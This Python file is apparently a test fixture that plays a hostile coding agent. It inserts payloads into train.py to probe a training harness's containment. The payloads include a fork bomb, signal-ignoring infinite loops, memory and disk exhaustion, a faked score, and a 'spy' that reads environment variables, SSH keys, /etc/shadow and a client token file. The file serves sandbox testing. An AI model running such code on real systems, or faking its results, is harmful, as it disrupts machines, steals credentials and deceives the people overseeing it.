"""A coding agent that writes hostile trainings, one kind after another, then honest ones.

`python hostile_agent.py COUNT_FILE kind,kind FOLDER`, run in a folder with train.py; FOLDER is
the client's, in which its token lies.
"""

import sys
from pathlib import Path

FORGET = "import signal\nfor n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)\n"
HARM = {
    "never_ends": FORGET + "while True: pass\n",
    "fork_bomb": "import os\nwhile True: os.fork()\n",
    "memory": "held = []\nwhile True: held.append(bytearray(b'x' * 2**24))\n",
    "disk": "file = open('out/ballast', 'wb')\nwhile True: file.write(b'x' * 2**20)\n",
    "flood": "while True: print('x' * 1000)\n",
    "lies": "print('---')\nprint('score: nan')\nraise SystemExit\n",
    # What it prints is written in two pieces here, so that its source is not taken for its log.
    "spy": """import os, pathlib, socket
def attempt(act):
    try:
        print("a spy " "got", act())
    except OSError as problem:
        print("a spy " "was refused", type(problem).__name__)
print(dict(os.environ))
try:
    print(pathlib.Path("/proc/1/environ").read_bytes())
except OSError:
    pass
for path in ("/root/.ssh/id_rsa", "/etc/shadow", FOLDER + "/config.toml"):
    attempt(lambda: pathlib.Path(path).read_bytes())
attempt(lambda: socket.create_connection(("127.0.0.1", 80), timeout=1))
""",
}


def main() -> None:
    """Write the next program."""
    count, kinds, folder = Path(sys.argv[1]), sys.argv[2].split(","), sys.argv[3]
    number = int(count.read_text()) if count.exists() else 0
    count.write_text(str(number + 1))
    train = Path("train.py")
    honest = train.read_text()
    if number < len(kinds):
        harm = HARM[kinds[number]].replace("FOLDER", repr(folder))
        train.write_text(f"# {kinds[number]}\n{harm}{honest}")
    else:
        train.write_text(honest.replace("DEPTH = 4", f"DEPTH = {4 + number}"))


if __name__ == "__main__":
    main()
